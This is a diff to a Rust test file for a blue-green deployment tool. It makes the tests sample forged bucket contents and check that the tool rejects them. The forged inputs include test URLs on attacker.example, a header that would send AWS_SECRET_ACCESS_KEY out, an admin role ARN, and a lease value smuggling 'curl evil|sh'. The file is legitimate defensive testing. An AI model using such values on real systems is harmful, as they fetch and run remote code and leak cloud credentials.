@@ -15,6 +15,7 @@ use crate::support::machines::{
     killed_with_its_disk_kept, run_killed_after,
 };
 use crate::support::served::Served;
+use bluegreen_testing::sample::sampled;
 
 const SPEED: f64 = 600.0;
 
@@ -92,7 +93,7 @@ fn a_command_that_only_the_bucket_names_does_not_run() {
     ];
     let honest = object(&served, &deployment_key(&id));
     let before = changes(&served);
-    for (part, planted, flag) in plants {
+    for (part, planted, flag) in sampled("commands in a copy", plants, 1) {
         let mut forged = honest.clone();
         forged["deployment"]["plan"][part] = planted;
         plant(&served, &deployment_key(&id), forged.to_string());
@@ -152,11 +153,15 @@ fn a_secret_is_not_sent_where_only_the_bucket_says() {
     let id = killed_after(&served, "CreateEnvironment", 1);
     let honest = object(&served, &deployment_key(&id));
     let before = changes(&served);
-    for (url, headers) in [
-        ("http://attacker.example/", json!({})),
-        ("http://{cname}.attacker.example/", json!({})),
-        ("/health", json!({"X-Key": "env:AWS_SECRET_ACCESS_KEY"})),
-    ] {
+    for (url, headers) in sampled(
+        "tests in a copy",
+        [
+            ("http://attacker.example/", json!({})),
+            ("http://{cname}.attacker.example/", json!({})),
+            ("/health", json!({"X-Key": "env:AWS_SECRET_ACCESS_KEY"})),
+        ],
+        1,
+    ) {
         let mut forged = honest.clone();
         let test = &mut forged["deployment"]["plan"]["tests"][0];
         (test["url"], test["headers"]) = (json!(url), headers);
@@ -189,20 +194,24 @@ fn an_environment_that_only_the_bucket_calls_green_is_left_alone() {
     let honest = object(&served, &deployment_key(&id));
     let before = changes(&served);
     let discarding = json!({"state": "discarding", "cause": {"cause": "asked_to_retreat"}});
-    for (what, change) in [
-        ("does not bear its tag", json!({"green": "shop-worker"})),
-        ("bluegreen:blue", json!({"blue_id": worker})),
-        (
-            "production-cname",
-            json!({"production_cname": "other.example"}),
-        ),
-        ("bluegreen:strategy", json!({"strategy": "promote"})),
-        ("its template", json!({"template": "shop-settings"})),
-        (
-            "operations role",
-            json!({"operations_role": "arn:aws:iam::123456789012:role/admin"}),
-        ),
-    ] {
+    for (what, change) in sampled(
+        "forged plans",
+        [
+            ("does not bear its tag", json!({"green": "shop-worker"})),
+            ("bluegreen:blue", json!({"blue_id": worker})),
+            (
+                "production-cname",
+                json!({"production_cname": "other.example"}),
+            ),
+            ("bluegreen:strategy", json!({"strategy": "promote"})),
+            ("its template", json!({"template": "shop-settings"})),
+            (
+                "operations role",
+                json!({"operations_role": "arn:aws:iam::123456789012:role/admin"}),
+            ),
+        ],
+        2,
+    ) {
         let mut forged = honest.clone();
         let deployment = &mut forged["deployment"];
         deployment["state"] = discarding.clone();
@@ -267,7 +276,7 @@ fn a_copy_that_this_program_would_not_write_is_damaged() {
         changes_of_plan("version", json!("v\n2")),
         ("/deployment".to_owned(), json!([])),
     ]);
-    for (place, value) in forgeries {
+    for (place, value) in sampled("forged values", forgeries, 6) {
         let mut forged = honest.clone();
         *forged
             .pointer_mut(&place)
@@ -282,7 +291,8 @@ fn a_copy_that_this_program_would_not_write_is_damaged() {
     }
     let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
     let long = format!("{{\"format\":2,\"x\":\"{}\"}}", "x".repeat(9_000_000));
-    for text in [deep, long, "{".to_owned(), String::new()] {
+    let texts = [deep, long, "{".to_owned(), String::new()];
+    for text in sampled("forged texts", texts, 2) {
         plant(&served, &deployment_key(&id), text);
         let (_, told) = exits(&Elsewhere::of(&served).run(&["resume", &id]), 3);
         assert!(told.contains("is damaged"), "{told}");
@@ -306,13 +316,17 @@ fn a_lease_that_this_program_would_not_write_is_damaged() {
     let id = killed_after(&served, "CreateEnvironment", 1);
     let key = lease_key(&target());
     let honest = object(&served, &key);
-    for (member, value) in [
-        ("fence", json!(u64::MAX)),
-        ("renewals", json!(u64::MAX)),
-        ("length_seconds", json!(u64::MAX)),
-        ("taken_at", json!(u64::MAX)),
-        ("deployment", json!("x; curl evil|sh #")),
-    ] {
+    for (member, value) in sampled(
+        "forged leases",
+        [
+            ("fence", json!(u64::MAX)),
+            ("renewals", json!(u64::MAX)),
+            ("length_seconds", json!(u64::MAX)),
+            ("taken_at", json!(u64::MAX)),
+            ("deployment", json!("x; curl evil|sh #")),
+        ],
+        2,
+    ) {
         let mut forged = honest.clone();
         forged[member] = value;
         plant(&served, &key, forged.to_string());
